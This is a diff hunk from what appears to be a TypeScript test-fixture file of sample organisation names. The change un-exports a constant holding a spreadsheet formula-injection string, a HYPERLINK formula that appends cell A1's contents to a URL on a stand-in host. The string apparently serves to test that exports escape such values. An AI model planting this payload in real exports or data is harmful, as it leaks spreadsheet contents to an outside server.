@@ -24,7 +24,7 @@ const GOVERNMENT = ['County of Lamna', 'Port Authority of Alder Bay'];
 const GERMAN = ['Wingtip Spielwaren GmbH', 'Müller & Söhne "Nord" GmbH', 'Öresund Handel KG', 'Proseware Süd AG'];
 
 /** A name that a spreadsheet would run as a formula if an export didn't guard it. */
-export const FORMULA_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Fabrikam Residences")';
+const FORMULA_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Fabrikam Residences")';
 
 interface Kind {
   readonly names: readonly string[];
